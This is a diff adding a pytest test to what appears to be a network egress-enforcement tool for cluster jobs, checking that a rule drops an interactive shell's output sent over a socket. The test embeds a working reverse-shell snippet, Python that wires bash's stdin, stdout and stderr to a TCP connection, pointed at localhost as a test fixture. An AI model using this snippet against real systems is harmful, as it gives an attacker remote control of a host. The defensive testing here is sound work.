@@ -170,3 +170,37 @@ def test_a_dropped_handshake_names_the_sockets_owner_never_a_bystander(capture, 
     assert hits[0]["enforcement"]["action"] == "drop_stratum"
     assert hits[0]["proc"]["pid"] == owner.pid != borrower
 
+
+
+# A reverse shell through a relay the argv rules cannot read: a real interactive bash whose stdio is a socket,
+# started by a program that names no shell in a shape the exec rules know.
+BASH_ON_SOCKET = (
+    "import socket, subprocess, sys\n"
+    "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+    "subprocess.run(['timeout', '-s', 'KILL', '3', '/bin/bash', '--norc', '--noprofile', '-i'],\n"
+    "               stdin=s, stdout=s, stderr=s)\n"
+)
+
+
+def test_an_interactive_shell_on_a_socket_is_stopped_on_the_wire(capture, enforcer, test_cgroup):
+    """bash -i with its stderr on a socket writes "no job control in this shell" first: the egress hook drops it
+    (shell-stderr-over-network) in the job it came from; an ordinary stream passes."""
+    job = fresh_job_id()
+    cg = test_cgroup(f"slurm/job_{job}")
+    rs = load_ruleset(rule_texts())
+    rule = rs.rules["shell-stderr-over-network"]
+    assert rule.action == "block" and kernel_enforceable(rule)
+    enforcer.apply(ppb.Policy(version=22, payload=[payload_watch(rule, ppb.Scope(job_ids=[job]), drop=True)]),
+                   persist=False)
+    pool = FakePool()
+    try:
+        run_in_cgroup(cg, [PYTHON, "-c", BASH_ON_SOCKET, str(pool.port)], timeout=30)
+        send(cg, pool.port, "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")      # ordinary: passes
+        pool.settle()
+    finally:
+        pool.close()
+    assert pool.got(b"GET /healthz")
+    assert not pool.got(b"job control")
+    hits = reports(capture, job, "shell-stderr-over-network")
+    assert hits and {h["enforcement"]["action"] for h in hits} == {"drop_payload"}
+    assert {h["proc"]["comm"] for h in hits} <= {"bash", "python3"}    # the shell, or the socket's owner
